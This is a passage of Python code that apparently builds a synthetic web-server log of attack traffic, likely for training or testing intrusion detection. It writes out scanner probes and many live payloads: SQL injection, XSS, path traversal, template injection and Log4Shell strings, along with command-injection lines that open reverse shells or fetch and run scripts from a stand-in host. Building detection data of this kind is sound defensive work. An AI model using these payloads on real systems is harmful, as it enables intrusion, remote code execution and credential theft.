    go("/search?q=budget", cls="tool")
    go("/search?q=%d" % r.randrange(1000, 9999), cls="tool")
    go("/search?q=" + pct("budget" + "".join(r.choice("'\"().,") for _ in range(10))))
    go("/search?q=" + pct("budget'%s<'\">%s" % (rw(6), rw(6))), cls="xss")
    P = []
    for _ in range(2):
        a, c, bb = r.randrange(1000, 9999), r.randrange(1000, 9999), r.randrange(1000, 9999)
        w = rw()
        P += [
            "budget) AND %d=%d AND (%d=%d" % (a, a, bb, bb),
            "budget) AND %d=%d AND (%d=%d" % (a, c, bb, bb),
            "budget AND %d=%d" % (a, a), "budget AND %d=%d" % (a, c),
            "budget') AND %d=%d AND ('%s'='%s" % (a, a, w, w),
            "budget' AND %d=%d AND '%s'='%s" % (a, a, w, w),
            "budget' AND %d=%d AND '%s'='%s" % (a, c, w, w),
            "budget%%' AND %d=%d AND '%s%%'='%s" % (a, a, w, w),
            "budget AND %d=%d-- %s" % (a, a, w),
            "budget' OR NOT %d=%d-- %s" % (a, c, w),
            "budget' RLIKE (SELECT (CASE WHEN (%d=%d) THEN 0x627564676574 ELSE 0x28 END))-- %s"
            % (a, a, w),
            "budget' AND MAKE_SET(%d=%d,%d)-- %s" % (a, a, bb, w),
            "budget' AND ELT(%d=%d,%d)-- %s" % (a, a, bb, w),
            "budget' AND (SELECT (CASE WHEN (%d=%d) THEN NULL ELSE CAST((CHR(79)||CHR(118)) AS "
            "NUMERIC) END)) IS NULL-- %s" % (a, a, w),
        ]
    for p in P:
        go("/search?q=" + pct(p))
    a, w = r.randrange(1000, 9999), rw()
    errs = [
        "budget' AND (SELECT %d FROM(SELECT COUNT(*),CONCAT(0x71766a7a71,(SELECT (ELT(%d=%d,1))),"
        "0x716b787871,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- %s"
        % (a, a, a, w),
        "budget' AND EXTRACTVALUE(%d,CONCAT(0x5c,0x71766a7a71,(SELECT (ELT(%d=%d,1))),"
        "0x716b787871))-- %s" % (a, a, a, w),
        "budget' AND UPDATEXML(%d,CONCAT(0x2e,0x71766a7a71,(SELECT (ELT(%d=%d,1))),0x716b787871),"
        "%d)-- %s" % (a, a, a, a + 7, w),
        "budget' AND %d=CAST((CHR(113)||CHR(118)||CHR(106)||CHR(122)||CHR(113))||(SELECT (CASE "
        "WHEN (%d=%d) THEN 1 ELSE 0 END))::text||(CHR(113)||CHR(107)||CHR(120)||CHR(120)||"
        "CHR(113)) AS NUMERIC)-- %s" % (a, a, a, w),
        "budget' AND %d IN (SELECT (CHAR(113)+CHAR(118)+CHAR(106)+CHAR(122)+CHAR(113)+(SELECT "
        "(CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)+CHAR(107)+CHAR(120)+"
        "CHAR(120)+CHAR(113)))-- %s" % (a, a, a, w),
        "budget' AND %d=CONVERT(INT,(SELECT CHAR(113)+CHAR(118)+CHAR(106)+CHAR(122)+CHAR(113)+"
        "(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113)+CHAR(107)+"
        "CHAR(120)+CHAR(120)+CHAR(113)))-- %s" % (a, a, a, w),
        "budget' AND %d=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||CHR(118)||CHR(106)||"
        "CHR(122)||CHR(113)||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)||CHR(113)||"
        "CHR(107)||CHR(120)||CHR(120)||CHR(113)||CHR(62))) FROM DUAL)-- %s" % (a, a, a, w),
    ]
    for p in errs:
        go("/search?q=" + pct(p), status=500, size=5561)
    stacked = ["budget';SELECT PG_SLEEP(5)--", "budget';WAITFOR DELAY '0:0:5'--",
               "budget';SELECT SLEEP(5)#", "budget';(SELECT * FROM (SELECT(SLEEP(5)))%s)#" % rw(),
               "budget';SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66)||CHR(67),5) FROM DUAL--"]
    timed = ["budget' AND (SELECT %d FROM (SELECT(SLEEP(5)))%s)-- %s" % (a, rw(), w),
             "budget' OR (SELECT %d FROM (SELECT(SLEEP(5)))%s)-- %s" % (a, rw(), w),
             "budget' AND %d=(SELECT %d FROM PG_SLEEP(5))-- %s" % (a, a, w),
             "budget' WAITFOR DELAY '0:0:5'-- %s" % w,
             "budget' AND %d=DBMS_PIPE.RECEIVE_MESSAGE(CHR(76)||CHR(75)||CHR(100)||CHR(75),5)-- %s"
             % (a, w),
             "budget' AND %d=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))-- %s"
             % (a, w),
             "budget' AND SLEEP(5) AND '%s'='%s" % (w, w)]
    for p in stacked + timed:
        go("/search?q=" + pct(p), delay=5 if "5" in p else 0)
    for n in range(1, 11):
        go("/search?q=" + pct("budget' ORDER BY %d-- %s" % (n, w)),
           status=200 if n <= 4 else 500, size=None if n <= 4 else 5561)
    for n in range(1, 7):
        go("/search?q=" + pct("budget' UNION ALL SELECT %s-- -" % ",".join(["NULL"] * n)))
    go("/search?q=" + pct("budget' UNION ALL SELECT NULL,NULL,CONCAT(0x71766a7a71,0x4a6c4d6b7a"
                          "4e6b6d6a,0x716b787871),NULL-- -"))
    go("/search?q=" + pct("budget' UNION ALL SELECT NULL,NULL,CONCAT(0x71766a7a71,IFNULL(CAST("
                          "VERSION() AS NCHAR),0x20),0x716b787871),NULL-- -"))
    # enumeration by boolean inference (bisection over characters)
    for pos in range(1, 9):
        lo, hi = 32, 127
        for _ in range(3):
            mid = (lo + hi) // 2
            go("/search?q=" + pct(
                "budget' AND ORD(MID((SELECT IFNULL(CAST(schema_name AS NCHAR),0x20) FROM "
                "INFORMATION_SCHEMA.SCHEMATA LIMIT 1,1),%d,1))>%d AND '%s'='%s" % (pos, mid, w, w)))
            if r.random() < 0.5:
                lo = mid
            else:
                hi = mid
    # a second parameter: a numeric id
    t += 40
    go("/news/article?id=42", cls="tool")
    go("/news/article?id=42&%s=%d%s" % (rw(), r.randrange(1000, 9999), pct(
        " AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM "
        "information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#")))
    a, c = r.randrange(1000, 9999), r.randrange(1000, 9999)
    for p in ["42 AND %d=%d" % (a, a), "42 AND %d=%d" % (a, c), "42) AND %d=%d AND (%d=%d" % (
            a, a, c, c), "42 OR NOT %d=%d" % (a, c),
              "42 AND (SELECT %d FROM (SELECT(SLEEP(5)))%s)" % (a, rw()),
              "42;SELECT PG_SLEEP(5)--", "-%d UNION ALL SELECT NULL,NULL,NULL-- -" % a,
              "-%d UNION ALL SELECT NULL,CONCAT(0x71766a7a71,0x%s,0x716b787871),NULL-- -" % (
                  a, "6a4b71504c"),
              "42 AND EXTRACTVALUE(%d,CONCAT(0x5c,0x71766a7a71,(SELECT (ELT(%d=%d,1))),"
              "0x716b787871))" % (a, a, a)]:
        go("/news/article?id=" + pct(p), delay=5 if "SLEEP(5)" in p else 0)


def nikto(r):
    ip, actor = "84.104.57.201", "nikto"
    t = at(2026, 9, 26, 3, 12, 2)
    n = [1]

    def go(method, target, status, cls, test=None, size=None):
        nonlocal t
        t += r.choice([0, 0, 1])
        tid = test if test is not None else "%06d" % (n[0] * 37 + 1000)
        n[0] += 1
        ua = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%s)" % tid
        if size is None:
            size = 5214 if status == 404 and "." not in target.rsplit("/", 1)[-1] else (
                153 if status in (403, 404, 405) else size_of(target))
        attack(t, ip, method, target, "HTTP/1.1", status, size, "-", ua, actor, cls)

    go("GET", "/", 200, "tool", "Port Check")
    go("GET", "/", 200, "tool", "getinfo")
    for ext in ["", ".htm", ".html", ".php", ".asp", ".aspx", ".jsp", ".cgi", ".pl", ".sh",
                ".txt", ".bak", ".inc", ".cfm"]:
        go("GET", "/%s%s" % (token(r, 8, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
                                        "0123456789"), ext), 404, "tool", "map_codes")
    go("GET", "/robots.txt", 200, "tool", size=412)
    go("GET", "/sitemap.xml", 200, "tool")
    go("TRACE", "/", 405, "tool")
    go("TRACK", "/", 405, "tool")
    go("OPTIONS", "/", 405, "tool")
    go("PROPFIND", "/", 405, "tool")
    go("DEBUG", "/", 405, "tool")
    probes = ["/.git/HEAD", "/.env", "/.htaccess", "/.htpasswd", "/server-status", "/server-info",
              "/phpinfo.php", "/info.php", "/test.php", "/phpmyadmin/", "/pma/", "/admin/",
              "/admin.php", "/wp-config.php.bak", "/config.php~", "/backup.sql", "/db.sql",
              "/.DS_Store", "/CVS/Entries", "/.svn/entries", "/web.config", "/WEB-INF/web.xml",
              "/manager/html", "/jmx-console/", "/console/", "/axis2/axis2-admin/",
              "/elmah.axd", "/trace.axd", "/iisadmin/", "/cgi-bin/test-cgi", "/cgi-bin/printenv",
              "/cgi-bin/php5", "/icons/README", "/phpmyadmin/scripts/setup.php",
              "/shell.php", "/cmd.php", "/c99.php", "/.bash_history", "/id_rsa", "/.ssh/id_rsa",
              "/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000",
              "/index.php?=PHPE9568F36-D428-11d2-A769-00AA001ACF42"]
    for p in probes:
        st = 403 if p.split("/")[1].startswith(".") else 404
        if p.startswith("/?="):
            st = 200
        go("GET", p, st, "probe")
    for p, cls in [("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "traversal"),
                   ("/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "traversal"),
                   ("/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", "traversal"),
                   ("/index.php?page=../../../../../../etc/passwd", "traversal"),
                   ("/index.php?file=../../../../../../../../boot.ini", "traversal"),
                   ("/main.php?logout=http://cirt.net/rfiinc.txt?", "rfi"),
                   ("/index.php?page=http://cirt.net/rfiinc.txt??", "rfi"),
                   ("/<script>alert('Vulnerable')</script>.thtml", "xss"),
                   ("/?<script>document.cookie</script>", "xss"),
                   ("/index.php?lang=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "xss"),
                   ("/cgi-bin/test.cgi?%22%3E%3Cscript%3Ealert(42)%3C/script%3E", "xss"),
                   ("/search?q=%3Cscript%3Ealert(%27nikto%27)%3C%2Fscript%3E", "xss"),
                   ("/index.php?id=1%27%20OR%20%271%27%3D%271", "sqli"),
                   ("/cgi-bin/bash?-c+id", "cmdi"),
                   ("/index.php?cmd=;cat%20/etc/passwd", "cmdi")]:
        st = 200 if p.startswith("/search") else 404
        go("GET", p, st, cls)


def gobuster(r):
    ip, actor, ua = "95.165.148.23", "gobuster-dir", "gobuster/3.6"
    t = at(2026, 10, 6, 22, 40, 0)
    words = [".bash_history", ".bashrc", ".cache", ".config", ".cvs", ".env", ".forward",
             ".git/HEAD", ".git/config", ".git/index", ".gitignore", ".history", ".hta",
             ".htaccess", ".htpasswd", ".listing", ".mysql_history", ".passwd", ".profile",
             ".rhosts", ".sh_history", ".ssh", ".svn", ".svn/entries", ".web", "@", "_admin",
             "_backup", "_vti_bin", "_vti_pvt", "~admin", "~root", "0", "00", "1", "2000",
             "admin", "admin.php", "admin_area", "administrator", "adminpanel", "api", "app",
             "archive", "assets", "auth", "backup", "backup.tar.gz", "backup.zip", "backups",
             "bak", "bin", "blog", "cache", "cgi-bin", "config", "config.bak", "config.php",
             "console", "contact", "core", "cp", "css", "data", "database", "db", "db.sql",
             "debug", "demo", "dev", "documents", "download", "dump.sql", "env", "error", "events",
             "export", "files", "ftp", "git", "home", "images", "img", "inc", "include",
             "includes", "index.php", "info.php", "install", "jobs", "js", "lib", "log", "login",
             "logs", "mail", "manager", "media", "news", "old", "panel", "phpinfo.php",
             "phpmyadmin", "private", "robots.txt", "search", "secret", "server-status",
             "services", "setup", "site.tar.gz", "sitemap.xml", "sql", "src", "staging",
             "static", "stats", "storage", "temp", "test", "tmp", "upload", "uploads", "user",
             "users", "vendor", "web.config", "webadmin", "wp-admin", "wp-content",
             "wp-login.php", "www.zip", "xmlrpc.php"]
    sensitive = ("_admin", "_backup", "_vti", "~", "admin", "backup", "bak", "config", "console",
                 "database", "db", "debug", "dump", "env", "git", "install", "manager",
                 "phpinfo", "info.php", "phpmyadmin", "private", "secret", "server-status",
                 "setup", "site.tar", "sql", "staging", "web.config", "webadmin", "wp-",
                 "www.zip", "xmlrpc", "panel", "cp", "storage", "vendor", "cgi-bin", "logs")
    ok = {"contact": 200, "login": 200, "search": 200, "robots.txt": 200, "sitemap.xml": 200,
          "assets": 301, "documents": 301, "events": 301, "jobs": 301, "media": 301, "news": 301,
          "services": 301, "server-status": 403, "api": 401}
    for w in words:
        t += 1 if r.random() < 0.08 else 0
        if w.startswith("."):
            st = 403
        else:
            st = ok.get(w, 404)
        cls = "probe" if (w.startswith(".") or w.startswith(sensitive)) else "tool"
        size = {200: size_of("/" + w), 301: 169, 401: 5180, 403: 153}.get(
            st, 153 if "." in w else 5214)
        attack(t, ip, "GET", "/" + w, "HTTP/1.1", st, size, "-", ua, actor, cls)


def env_probe(r):
    ip, actor = "128.199.201.77", "envprobe-chrome"
    ua = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/126.0.0.0 Safari/537.36")
    sets = [["/.env", "/.env.production", "/api/.env", "/laravel/.env", "/.git/config"],
            ["/.aws/credentials", "/config.json", "/.vscode/sftp.json", "/info.php", "/.env.bak"],
            ["/backend/.env", "/docker-compose.yml", "/sendgrid.env", "/admin/.env",
             "/wp-config.php.bak"],
            ["/.env", "/app/.env", "/core/.env", "/.git/HEAD", "/phpinfo.php", "/.DS_Store"]]
    for (mo, d, h), paths in zip([(9, 21, 11), (9, 29, 19), (10, 7, 5), (10, 13, 16)], sets):
        t = at(2026, mo, d, h, r.randrange(0, 59), r.randrange(0, 59))
        attack(t, ip, "GET", "/", "HTTP/1.1", 200, size_of("/"), "-", ua, actor, "", payload=0)
        for p in paths:
            t += r.choice([0, 1])
            st = 403 if p.startswith("/.") else 404
            # /config.json is also fetched by single-page applications: only the sequence tells
            attack(t, ip, "GET", p, "HTTP/1.1", st, 153, "-", ua, actor, "probe",
                   detect="behaviour" if p == "/config.json" else "")


def xss_prober(r):
    ip, actor = "177.67.82.140", "xss-prober"
    ua = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/129.0.0.0 Safari/537.36")
    t = at(2026, 10, 5, 16, 20, 7)
    ref = "-"

    def go(target, cls="xss", payload=1, status=200, referer=None):
        nonlocal t, ref
        t += r.randrange(2, 25)
        attack(t, ip, "GET", target, "HTTP/2.0", status,
               size_of(target, 9000, 16000) if status == 200 else 5214,
               ref if referer is None else referer, ua, actor, cls, payload)
        ref = SITE + target.replace('"', "%22")

    go("/", payload=0)
    go("/search?q=test", payload=0)
    go("/search?q=hello+world", payload=0)
    payloads = [
        "<script>alert(1)</script>", "\"><script>alert(document.domain)</script>",
        "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
        "<svg><script>alert&#40;1&#41;</script>", "<iframe src=\"javascript:alert(1)\">",
        "<body onload=alert('XSS')>", "'-alert(1)-'", "';alert(String.fromCharCode(88,83,83))//",
        "<details open ontoggle=prompt(1)>", "<a href=\"javas&#99;ript:alert(1)\">x</a>",
        "<ScRiPt>confirm(1)</sCrIpT>", "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
        "<svg onload=alert&lpar;1&rpar;>", "<input autofocus onfocus=alert(1)>",
        "\"onmouseover=\"alert(1)", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
        "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ]
    for i, p in enumerate(payloads):
        k = i % 4
        if k == 0:
            go("/search?q=" + pct(p))
        elif k == 1:  # sent raw by a script: nginx escapes the quote as \x22
            go("/search?q=" + p.replace(" ", "%20"))
        elif k == 2:
            go("/news/?tag=" + pct(p, safe="()'=/"))
        else:
            go("/search?q=" + form_q(p))
    # double and mixed encodings
    go("/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E")
    go("/search?q=%3Cscr%3Cscript%3Eipt%3Ealert(1)%3C%2Fscr%3C%2Fscript%3Eipt%3E")
    go("/search?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B")
    go("/search?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E")
    # javascript: URLs in redirect parameters
    go("/login?return=javascript:alert(document.cookie)", status=200)
    go("/login?return=javascript%3Aalert%28document.cookie%29", status=200)
    go("/login?return=%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)", status=200)
    go("/login?return=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", status=200)
    # in the Referer header
    go("/news/", referer=SITE + "/\"><script>alert(1)</script>")
    go("/events/", referer="javascript:alert(document.cookie)//")
    go("/search?q=test", payload=0)


def lfi(r):
    ip, actor = "176.36.118.9", "lfi-traversal"
    ua = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
    t = at(2026, 9, 28, 9, 10, 31)

    def go(target, cls="traversal", payload=1, status=404, size=None):
        nonlocal t
        t += r.randrange(1, 6)
        attack(t, ip, "GET", target, "HTTP/1.1", status,
               size if size is not None else (5214 if status == 404 else size_of(target)),
               "-", ua, actor, cls, payload)

    go("/", payload=0, status=200)
    go("/documents/download?file=annual-report-2025.pdf", payload=0, status=200,
       size=size_of("/documents/annual-report-2025.pdf", 180000, 2400000))
    D = "/documents/download?file="
    for p, cls in [
            ("../../../../etc/passwd", "traversal"),
            ("..%2f..%2f..%2f..%2fetc%2fpasswd", "traversal"),
            ("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "traversal"),
            ("%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", "traversal"),
            ("....//....//....//....//etc/passwd", "traversal"),
            ("..%5c..%5c..%5c..%5cwindows%5cwin.ini", "traversal"),
            ("..\\..\\..\\..\\windows\\win.ini", "traversal"),
            ("/etc/passwd", "traversal"), ("/etc/passwd%00.pdf", "traversal"),
            ("../../../../etc/shadow", "traversal"),
            ("../../../../proc/self/environ", "traversal"),
            ("../../../../var/log/nginx/access.log", "traversal"),
            ("php://filter/convert.base64-encode/resource=index.php", "traversal"),
            ("php://filter/read=string.rot13/resource=config.php", "traversal"),
            ("php://input", "code"),
            ("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8%2B", "code"),
            ("expect://id", "code"),
            ("http://198.51.100.23/shell.txt?", "rfi"), ("ftp://198.51.100.23/x.txt", "rfi"),
            ("file:///etc/passwd", "traversal"),
            ("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "traversal"),
            ("..%c0%af..%c0%af..%c0%afetc/passwd", "traversal"),
            ("..%252f..%252f..%252fetc%252fpasswd", "traversal"),
            ("../../../../../../../../../../etc/passwd&format=pdf", "traversal"),
            ("/var/www/html/.env", "traversal"),
            ("C:\\Windows\\System32\\drivers\\etc\\hosts", "traversal"),
            ("....\\/....\\/....\\/etc/passwd", "traversal")]:
        go(D + p, cls)
    for p in ["/documents/..%2f..%2f..%2f..%2fetc%2fpasswd", "/assets/..%2f..%2f..%2fetc/passwd",
              "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..;/..;/..;/etc/passwd",
              "/documents/download/..%5c..%5c..%5cboot.ini",
              "/media/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"]:
        go(p, status=400 if ";" not in p else 404, size=157 if ";" not in p else 5214)


def cmdi(r):
    ip, actor, ua = "79.210.33.164", "cmdi-curl", "curl/7.88.1"
    t = at(2026, 10, 9, 11, 0, 14)
    B = "/services/waste-and-recycling/bin-day?postcode="

    def go(target, cls="cmdi", payload=1, status=200, agent=ua, referer="-", method="GET"):
        nonlocal t
        t += r.randrange(1, 8)
        attack(t, ip, method, target, "HTTP/1.1", status,
               size_of(target, 7000, 9000) if status == 200 else 5214, referer, agent, actor,
               cls, payload)

    go(B + "NV1+2AB", payload=0)
    for p in ["NV1 2AB;id", ";cat /etc/passwd", "|cat /etc/passwd",
              "$(wget http://198.51.100.23/x.sh -O /tmp/x.sh)", "`id`", "NV1 2AB && uname -a",
              "|| ping -c 3 198.51.100.23", "; nc -e /bin/sh 198.51.100.23 4444", "\nid",
              ";${IFS}cat${IFS}/etc/passwd", "$(curl -s http://198.51.100.23/p|sh)",
              ";sleep 10", "| whoami", "'; cat /etc/passwd #", ";echo $((1337*3))",
              "&ping -n 3 127.0.0.1&", "|powershell -enc SQBFAFgAIAAoAGkAdwByACkA",
              ";bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
              "a;wget -qO- http://198.51.100.23/b.sh|sh"]:
        enc = pct(p) if r.random() < 0.6 else pct(p, safe="|;$(){}`&'/:")
        go(B + enc, status=200 if r.random() < 0.7 else 400)
    go("/api/address-lookup?street=" + pct("High St;/bin/cat /etc/passwd"), status=404)
    go("/api/address-lookup?street=" + pct("High St|/usr/bin/id"), status=404)
    # Shellshock in headers
    go("/cgi-bin/status", agent="() { :; }; /bin/bash -c \"id\"", status=404)
    go("/cgi-bin/test.cgi", agent="() { :;}; echo; /bin/cat /etc/passwd", status=404)
    go("/", referer="() { ignored; }; /bin/bash -c 'wget http://198.51.100.23/s -O /tmp/s'",
       status=200)


def log4shell(r):
    ip, actor = "139.59.77.45", "log4shell-scanner"
    L = "198.51.100.77"
    for (mo, d, h) in ((9, 21, 2), (10, 11, 3)):
        t = at(2026, mo, d, h, r.randrange(0, 59), r.randrange(0, 59))
        reqs = [
            ("/", "${jndi:ldap://%s:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTk4LjUxLjEwMC43Ny9s}" % L, "-"),
            ("/?x=${jndi:ldap://%s:1389/a}" % L, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "-"),
            ("/?x=" + pct("${jndi:ldap://%s:1389/a}" % L), "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "-"),
            ("/", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://%s/x}" % L, "-"),
            ("/login", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s/x}" % L, "-"),
            ("/", "Mozilla/5.0", "${jndi:dns://%s/tst}" % L),
            ("/search?q=" + pct("${jndi:rmi://%s:1099/obj}" % L), "Mozilla/5.0", "-"),
            ("/${jndi:ldap://%s/path}" % L,
             "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//%s/z}" % L, "-"),
        ]
        for target, ua, ref in reqs:
            t += r.choice([0, 1, 2])
            st = 404 if target.startswith("/$") else 200
            attack(t, ip, "GET", target, "HTTP/1.1", st,
                   5214 if st == 404 else size_of(target.split("?")[0]), ref, ua, actor, "code")


def ssti(r):
    ip, actor = "121.134.66.208", "ssti-prober"
    ua = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
          "Gecko) Version/17.5 Safari/605.1.15")
    t = at(2026, 10, 12, 19, 31, 50)
    attack(t, ip, "GET", "/search?q=test", "HTTP/2.0", 200, 11210, "-", ua, actor, "", 0)
    for p in ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{7*'7'}}", "${{7*7}}",
              "{% debug %}", "{{config}}", "{{config.items()}}",
              "{{self.__init__.__globals__.__builtins__}}",
              "{{''.__class__.__mro__[1].__subclasses__()}}",
              "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
              "{{cycler.__init__.__globals__.os.popen('id').read()}}", "*{7*7}",
              "{php}echo `id`;{/php}",
              "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }",
              "${T(java.lang.Runtime).getRuntime().exec('id')}", "#set($x=7*7)${x}"]:
        t += r.randrange(3, 30)
        target = "/search?q=" + (form_q(p) if r.random() < 0.7 else pct(p, safe="{}*$'"))
        attack(t, ip, "GET", target, "HTTP/2.0", 200, size_of(target, 9000, 16000),
               SITE + "/search?q=test", ua, actor, "ssti")


def wp_bruteforce(r):
    ip, actor = "14.160.92.17", "wp-bruteforce"
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"
    t = at(2026, 10, 14, 1, 0, 3)
    attack(t, ip, "GET", "/", "HTTP/1.1", 200, size_of("/"), "-", ua, actor, "", 0)
    for p in ["/wp-login.php", "/?author=1", "/wp-json/wp/v2/users", "/wp-admin/"]:
        t += 1
        # WordPress paths are ordinary on a WordPress site: on this one only the burst tells
        attack(t, ip, "GET", p, "HTTP/1.1", 404, 153 if p.endswith(".php") else 5214, "-", ua,
               actor, "scan", detect="behaviour")
    for i in range(52):
        t += r.randrange(1, 4)
        path = "/xmlrpc.php" if i % 7 == 6 else "/wp-login.php"
        attack(t, ip, "POST", path, "HTTP/1.1", 404, 153, SITE + "/wp-login.php", ua, actor,
               "bruteforce", detect="behaviour")


def manual_sqli(r):
    ip, actor = "2a00:1fa0:41c2:7700::35", "sqli-manual-v6"
    ua = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0")
    t = at(2026, 9, 30, 23, 38, 12)  # logged as 01/Oct/2026:01:38 +0200: a September request
    ref = "-"
    for p, cls, st in [("42", "", 200), ("42'", "sqli", 500), ("42\"", "sqli", 500),
                       ("42 AND 1=1", "sqli", 200), ("42 AND 1=2", "sqli", 404),
                       ("42 OR 1=1-- -", "sqli", 200), ("42' OR '1'='1", "sqli", 500),
                       ("-1 UNION SELECT 1,2,3-- -", "sqli", 200),
                       ("-1 UNION SELECT 1,group_concat(table_name),3 FROM "
                        "information_schema.tables WHERE table_schema=database()-- -", "sqli", 200),
                       ("-1 UNION SELECT 1,concat(username,0x3a,password),3 FROM users-- -", "sqli",
                        200),
                       ("42;DROP TABLE users--", "sqli", 500), ("42 AND SLEEP(5)", "sqli", 200),
                       ("42/**/UNION/**/SELECT/**/1,2,3", "sqli", 200),
                       ("42 UnIoN sElEcT 1,@@version,3", "sqli", 200),
                       ("1 AND extractvalue(1,concat(0x7e,version()))-- ", "sqli", 500)]:
        t += r.randrange(6, 50)
        target = "/news/article?id=" + pct(p, safe="'*/,=@()")
        # a lone quote after a number is the classic first probe; alone it is a weak signal
        # that the 500 answer confirms
        attack(t, ip, "GET", target, "HTTP/2.0", st,
               size_of(target) if st == 200 else 5561 if st == 500 else 5214, ref, ua, actor,
               cls, 1 if cls else 0, detect="context" if p in ("42'", '42"') else "")
        ref = SITE + target
    t += 31
    target = "/search?q=" + form_q("admin'--")
    attack(t, ip, "GET", target, "HTTP/2.0", 200, 11020, ref, ua, actor, "sqli")


def botnet(r):
    ip, actor = "36.68.211.54", "botnet-exploits"
    X = "198.51.100.9"
    hits = [
        ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "probe", "Mozilla/5.0"),
        ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
                "&vars[0]=md5&vars[1][]=HelloThinkPHP21", "code",
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/78.0.3904.108 Safari/537.36"),
        ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-"
                "+http://%s/t|sh`)" % X, "cmdi", "Go-http-client/1.1"),
        ("POST", "/boaform/admin/formLogin", "probe", "Mozilla/5.0"),
        ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://%s/jaws;sh+/tmp/jaws" % X, "cmdi",
         "Hello, world"),
        ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://%s/"
                "Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1" % X, "cmdi",
         "Mozilla/5.0"),
        ("POST", "/GponForm/diag_Form?images/", "probe", "Hello, World"),
        ("GET", "/?XDEBUG_SESSION_START=phpstorm", "probe", "Mozilla/5.0"),
        ("GET", "/solr/admin/info/system?wt=json", "probe", "Mozilla/5.0"),
        ("GET", "/actuator/env", "probe", "Mozilla/5.0 zgrab/0.x"),
        ("GET", "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f", "probe",
         "Mozilla/5.0 zgrab/0.x"),
        ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
         "traversal", "Mozilla/5.0"),
        ("GET", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", "traversal", "Mozilla/5.0"),
        ("GET", "/_ignition/execute-solution", "probe", "python-requests/2.31.0"),
        ("POST", "/api/jsonws/invoke", "probe", "python-requests/2.31.0"),
        ("GET", "/HNAP1/", "probe", "Mozila/5.0"),
        ("GET", "/console/css/%252e%252e%252fconsole.portal", "traversal", "Mozilla/5.0"),
